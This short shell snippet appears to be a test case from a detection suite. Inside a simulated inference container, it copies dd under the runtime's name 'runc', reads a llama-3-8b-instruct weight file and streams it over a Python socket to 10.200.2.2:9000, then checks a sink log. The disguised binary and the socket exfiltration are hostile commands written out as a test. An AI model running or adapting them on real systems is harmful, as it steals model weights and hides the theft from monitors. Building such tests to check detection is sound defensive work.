# V45 EXF-001: dd copied to a runtime's name (runc) inside the container reads the weights; python sends them
ctr_run simctr-infer-v45 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  mkdir -p /tmp/v45 && cp /bin/dd /tmp/v45/runc
  /tmp/v45/runc if=$0/models/llama-3-8b-instruct/model-00001-of-00001.safetensors bs=1M status=none | python3 -c "
import socket, sys
s = socket.create_connection((\"10.200.2.2\", 9000)); n = 0
while d := sys.stdin.buffer.read(1 << 20):
    s.sendall(d); n += len(d)
s.close(); print(\"sent\", n)"
  rm -rf /tmp/v45' "$H"
grep ':9000' "$H/sink.log" | tail -1
